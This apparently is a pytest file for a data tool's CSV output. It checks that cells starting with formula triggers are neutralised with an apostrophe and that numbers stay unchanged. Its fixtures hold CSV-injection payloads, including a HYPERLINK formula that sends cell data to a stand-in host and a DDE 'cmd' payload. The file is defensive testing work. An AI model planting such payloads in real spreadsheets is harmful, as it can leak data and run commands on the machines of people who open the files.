"""CSV injection: text cells a spreadsheet would evaluate are made inert in every CSV sdo
writes (`sdo sql`, `sdo orgs … --format csv`, `sdo export`), numbers stay numbers."""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path

import polars as pl
from typer.testing import CliRunner

from flows.cli import app
from flows.export import export_week
from warehouse.outputs.csv_cells import inert_text, restore_text
from warehouse.outputs.exports import Week, read_export

runner = CliRunner()
HOSTILE = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "--None--",  # a real affiliation string
]
HARMLESS = ["Huawei", "RAN1#87", "", "a=b", "e-mail", "'quoted"]


def test_formula_triggers_get_an_apostrophe_and_nothing_else_changes() -> None:
    frame = pl.DataFrame({"text": HOSTILE + HARMLESS, "n": [-1] * 14, "x": [-0.5] * 14})
    inert = inert_text(frame)
    assert inert["text"].to_list() == ["'" + s for s in HOSTILE] + HARMLESS
    assert inert["n"].to_list() == [-1] * 14 and inert["x"].dtype == pl.Float64
    assert restore_text(inert).equals(frame)
    # read back as a spreadsheet would: no cell starts with a trigger
    text = inert.write_csv()
    cells = pl.read_csv(io.StringIO(text), infer_schema=False)["text"].to_list()
    assert not any((c or "").startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_sdo_sql_csv_is_inert_and_numbers_stay_numbers(tmp_path: Path) -> None:
    from tests.conftest import one_meeting_warehouse

    db = tmp_path / "sdo.duckdb"
    one_meeting_warehouse(db, ["=cmd|' /C calc'!A0"]).close()
    result = runner.invoke(
        app,
        [
            "sql",
            "SELECT affiliation, -1 AS n FROM participation",
            "--format",
            "csv",
            "--db",
            str(db),
        ],
    )
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == ["affiliation,n", "'=cmd|' /C calc'!A0,-1"]


def test_orgs_resolve_csv_is_inert() -> None:
    result = runner.invoke(app, ["orgs", "resolve", "--format", "csv", "--", "--None--", "=1+1"])
    assert result.exit_code == 0, result.output
    rows = result.output.splitlines()[1:]
    assert rows[0].startswith("'--None--,") and rows[1].startswith("'=1+1,")


def test_exports_are_inert_and_read_back_as_written(tmp_path: Path) -> None:
    from tests.conftest import one_meeting_warehouse

    db = tmp_path / "sdo.duckdb"
    one_meeting_warehouse(db, ['=HYPERLINK("http://evil.invalid","x")', "Huawei"]).close()
    week = Week.parse("2024-W29")
    assert week.start <= date(2024, 7, 20) <= week.end
    result = export_week(db, week, tmp_path / "out")
    text = (result.folder / "delegation_by_group.csv").read_text()
    assert "'=HYPERLINK(" in text and "\n=" not in text and ",=" not in text
    back = read_export(result.folder)["delegation_by_group"]
    assert '=HYPERLINK("http://evil.invalid","x")' in back["org_group"].to_list()
